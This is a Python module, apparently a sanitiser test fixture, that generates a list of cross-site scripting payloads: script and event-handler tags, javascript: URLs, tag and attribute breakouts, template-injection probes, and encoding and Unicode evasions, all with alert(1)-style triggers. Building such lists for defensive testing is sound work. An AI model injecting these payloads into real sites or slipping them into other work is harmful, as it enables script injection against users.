"""Scripts and markup that somebody might hide in a dossier or a document."""

from __future__ import annotations

from itertools import product

_RUN = ("alert(1)", "confirm`1`", "window['al'+'ert'](1)")

_ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script src=data:,{0}></script>",
    "<img src=x onerror={0}>",
    "<img/src=`x`onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:{0}>x</mi></math>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<a href=javascript:{0}>x</a>",
    "<form action=javascript:{0}><button>x",
    "<style>@import 'javascript:{0}'</style>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=javascript:{0}//>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
)

_BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</table><script>alert(1)</script>",
    "{{7*7}}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)

PAYLOADS = (*(element.format(run) for element, run in product(_ELEMENTS, _RUN)), *_BREAKOUTS)
